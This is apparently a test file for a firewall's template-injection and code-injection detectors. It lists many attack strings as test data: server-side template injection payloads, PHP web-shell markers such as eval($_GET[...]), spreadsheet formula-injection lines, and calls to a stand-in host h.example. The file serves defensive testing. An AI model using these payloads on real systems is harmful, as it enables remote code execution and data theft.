// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what looks like a template is the matter here
import assert from "node:assert/strict";
import { test } from "node:test";
import { DOTTED_PHRASES, MARKED_PHRASES } from "../../src/detect/code/calls.ts";
import { codeDetectors } from "../../src/detect/code/index.ts";
import { templateDetector } from "../../src/detect/template/index.ts";
import { holdSteps, holdTables, holdVariants, together } from "./finder-tables.ts";

const ATTACKS = [
  "{{9*9}}", "{{ 9 * 9 }}", "${9*9}", "#{9*9}", "<%= 9*9 %>", "@(9*9)", "%{9*9}", "*{9*9}", "{{9*'9'}}", "${{9*9}}", "a{{ 9-3 }}b", "{9*9}", "{{'a'.upper()}}", "{{ [].append }}",
  "{{ ''.__class__.__mro__ }}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ request|attr('application') }}", "{{ cycler.__init__ }}", "{{ ['id']|filter('system') }}", "{{ _self.env.getFilter('a') }}",
  "{% import os %}", "{% set x = 1 %}", "{% debug %}", "{% for x in ().__class__.__base__.__subclasses__() %}", "<#assign a=\"freemarker.template.utility.Execute\"?new()>", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "[#assign a = 1]",
  "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{T(java.lang.System).getenv()}", "%{(#_memberAccess['a']=true)}", "%{#context['x']}", "${''.getClass().forName('a')}", "#set($a=$class.inspect('x'))", "*{T(org.apache.commons.io.IOUtils).toString(1)}",
  "<%= system('id') %>", "<%= `id` %>".replace("`id`", "IO.popen('id').read"), "<%= File.open('/etc/hosts').read %>", "{php}echo 1;{/php}", "{system('id')}", "{$smarty.version}", "{{constructor.constructor('return 1')()}}", "{{= process.mainModule.require('fs') }}",
  "{{#with \"a\" as |b|}}{{lookup b.sub \"constructor\"}}{{this.push \"return require('fs')\"}}{{/with}}",  "{{dump(app)}}", "{{1337|add:1}}",
  "${request.getParameter('y')}", "${applicationContext.getBean('y')}", "#{systemProperties['user.home']}", "{{.Run \"id\"}}", "${.version}", "<#list .data_model?keys as k>", "{{constant('PHP_OS')}}", "{fetch file=\"/etc/hosts\"}", "<%eval request(\"y\")%>",
  "<%= ENV['KEY'] %>", "{{$y := .Env}}", "{{joiner}}",
]; // biome-ignore format: a list of words

const BENIGN = [
  "{{ user.name }}", "{{name}}", "{{ message | upper }}", "{{ items.length + 1 }}", "{{ $t('greeting') }}", "{% for item in items %}", "{% if user %}hello{% endif %}", "${name}", "${a + b}", "${price * quantity}", "#{name}", "`Hello ${user.first} ${user.last}`",
  "<%= name %>", "{name}", "{ a: 1 }", "{\"a\": {\"b\": [1, 2]}}", "body { color: #fff; }", "@media (max-width: 600px) { a { b: c } }", "user@example.com (9*9)", "#hashtag {x}", "[[wiki link]]", "[#123]", "[=]", "9*9", "(9*9)", "{1} + {1}", "{0}, {1} and {2}", "f(x) = {x | x > 3}",
  "$5 + $6", "100%{off}", "@jane (see above)", "<# of items>", "a <% b", "#settings and #setup", "#set the table", "{x*y}", "안녕 {{이름}} 님", "{{ 제목 }}", "email me @ (work)", "C#{sharp}",
  "${el.style.getPropertyValue('x')}", "{{ .Values.name }}", "{fetch the ball}", "{{ app.user.name }}", "${application.name}",
  "{{ .Envelope }}", "<%= envelope %>", "{{ joiners }}",
]; // biome-ignore format: a list of words

holdTables(templateDetector, ATTACKS, BENIGN);

holdVariants(templateDetector, ATTACKS.filter((row) => !/^(?:@|\{\d|\{php|\{sys|\{\$|.*Access)/.test(row)), [
  ["behind words", (text) => `Hello dear ${text}`],
  ["before words", (text) => `${text} and so on`],
  ["in a text in quotes", (text) => `'${text}'`],
]); // biome-ignore format: one call

holdSteps(
  templateDetector,
  ["{", "{{", "${", "#{", "<%", "<#", "[[", "[#", "#set", "@(", "{%", "{{ a", "{$", "{{9*", "{{'", "${T(", "{{[]|", "}}{{", "a{"],
  1200,
);

const CODE_ATTACKS = [
  "phpinfo()", "system('id')", "';system('id');//", "\".system('id').\"", "eval($_GET['a'])", "<?php echo 1; ?>", "<?=`id`?>", "${@print(1)}", "${phpinfo()}", "shell_exec('id')", "assert('phpinfo()')", "file_put_contents('a.php','b')", "call_user_func('system','id')", "('system')('id')",
  "__import__('os').system('id')", "os.system('id')", "';import os;os.system('id')#", "subprocess.check_output(['id'])", "require('child_process').execSync('id')", "process.mainModule.require('fs')", "global.process.mainModule.constructor._load('fs')", "Runtime.getRuntime().exec('id')", "java.lang.Runtime.getRuntime()", "new java.lang.ProcessBuilder('id')",
  "Kernel.exec('id')", "IO.popen('id').read", "@{[system 'id']}", "Server.CreateObject(\"WScript.Shell\")", "''.__class__.__mro__[1].__subclasses__()", "Ev al(\"Ex\"&\"e\"&\"cute(1)\")", "exec('id')", "base64_decode('aWQ=')", "getattr('', 'x')",
  "=cmd|' /C notepad'!B1", "@SUM(2+2)*cmd|' /C calc'!B1", "=DDE(\"cmd\";\"/C calc\";\"y\")", "=HYPERLINK(\"http://h.example/?y=\"&B1,\"see\")", "include 'http://h.example/y';", "new java.io.File('/etc/hosts')", "\"sys\".\"tem\"('ls')", "(sy.(st).em)(ls);",
  "/Index/\\think\\app/invokefunction",
  "require(\"http\").get(\"http://h.example\")", "new Function('return this')()", "@System.IO.File.ReadAllText(\"c:/y\")",
]; // biome-ignore format: a list of words

const CODE_BENIGN = [
  "the system (see above)", "our exec (CEO)", "f(x)", "system()", "eval", "pattern.exec('x')", "/a/.exec(\"b\")", "db.system.users", "call system(s) of record", "to assert (strongly)", "an operating system ('OS')", "import osmosis", "os.path.join('a')", "we print_r and var_dump", "$500 (USD)", "fopen is a function", "console.log('a')",
  "use `os.system('x')` with care", "In Python, os.system('ls') runs a command", "see child_process.exec('x') in the manual", "_underscore_ (text)", "array_map and friends", "a < b ? c : d", "new Date()", "require('./a')", "import x from 'y'; f(x)", "popen(3)", "평가(eval) 함수는 위험하다", "(system) (id)", "execute (the order)", "process (main)", "my_function($x)",
  "=SUM(B1:B9)", "=HYPERLINK(\"https://example.com\",\"see\")", "- run cmd | findstr x", "include 'a.php' first", "Smith.\"Jones\" (1999)", "No.(1) (a)", "new java developers", "=IF(B1>5,\"yes\",\"no\")",
  "const a = require('fs').promises", "new Function (see below)", "@Systems.anna wrote (today)",
]; // biome-ignore format: a list of words

const codeDetector = together(codeDetectors);

holdTables(codeDetector, CODE_ATTACKS, CODE_BENIGN);

holdSteps(
  codeDetector,
  ["(", "a(", "system(", ".a(", "((", ")(", "('a')(", "$_", "<?", "@", "__", "a.b.c.d(", "    (", "os.system('"],
  120,
);

const GAPS = ["", " ", "\t", "\n", "\v", "\f", "\r", "\xa0"];
const split = (words: string): readonly string[] => words.split(" ");
/** One value for each word without which nothing is looked for: beginnings that run, and the marks of web shells. */
const WORDED: readonly string[] = [
  ...split("system print eval passthru exec phpinfo md5 var_dump die print_r shell_exec assert file_get_contents readfile").flatMap((name) => GAPS.map((gap) => `a'.${name}${gap}(1)`)),
  ...split("system exec passthru shell_exec popen proc_open").flatMap((name) => GAPS.map((gap) => `${name}${gap}(a);`)),
  ...split("print echo system eval var_dump md5 phpinfo").flatMap((name) => GAPS.map((gap) => `a();${name}${gap}(1)`)),
  ...split("header print echo system eval exec phpinfo die class function").flatMap((name) => GAPS.map((gap) => `a';}${gap}${name} _`)),
  ...GAPS.map((gap) => `x';exit(sha1${gap}(1))`),
  ...GAPS.map((gap) => `execute request${gap}(1)`), "zerodiumsystem(1)", "script::[", "Runtime.getRuntime().exec(", "__import__('os')",
  "('a'.'b')(", `'a'."b"(`, `"a".'b'(`, `"a"."b"(`, "(a.(b))(", '"Ex"&"e"&"cute"(',
  ...split("GET POST REQUEST COOKIE FILES").map((name) => `eval($_${name}[a]);`), 'eval($_SERVER["HTTP_A"]);', "eval(php://input);", "eval(getallheaders());", "eval(apache_request_headers());",
  ...split("GET POST REQUEST COOKIE").flatMap((name) => [`eval($\{"_${name}"}[a]);`, `eval($\{'_${name}'}[a]);`]),
  '<% eval(request.getParameter("a")) %>', '<jsp:a> eval(request["a"])', '<script runat=server>eval(request["a"])',
]; // biome-ignore format: a list of words

test("The firewall asks for code wherever one of its words stands", () => {
  const detector = together(codeDetectors);
  assert.deepEqual(WORDED.filter((row) => (detector.find(row)?.weight ?? 0) < 4), []); // biome-ignore format: one line
  const words = codeDetectors.flatMap((part) => (part.words?.includes("zerodium") === true ? part.words : []));
  const phrases = [...DOTTED_PHRASES, ...MARKED_PHRASES].map(([needle]) => needle);
  assert.ok(words.length > phrases.length);
  assert.deepEqual(words.filter((word) => !phrases.includes(word) && !WORDED.some((row) => row.toLowerCase().includes(word))), []); // biome-ignore format: one line
});
